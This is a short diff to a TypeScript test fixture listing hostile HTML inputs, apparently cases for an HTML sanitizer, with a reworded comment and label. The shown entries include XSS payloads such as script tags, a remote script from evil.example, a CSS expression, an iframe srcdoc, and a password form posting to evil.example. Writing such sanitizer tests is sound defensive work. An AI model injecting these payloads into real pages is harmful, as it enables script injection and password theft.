@@ -1,4 +1,6 @@
-/** Formatted texts that somebody means harm with, by what they try. `alert` stands for all they would do. */
+/**
+ * Formatted texts that somebody attacks with, by what they try. `alert` stands for all they would do.
+ */
 export const HOSTILE_TEXTS: readonly (readonly [attempt: string, html: string])[] = [
   ['a script', '<p>Hallo</p><script>alert(1)</script>'],
   ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
@@ -67,7 +69,7 @@ export const HOSTILE_TEXTS: readonly (readonly [attempt: string, html: string])[
   ['a style that computes', '<p style="text-align:expression(alert(1))">Hallo</p>'],
   ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
   [
-    'a form that asks for a password',
+    'a form that requests a password',
     '<form action="https://evil.example"><input name=p type=password><button>OK</button></form>',
   ],
   [
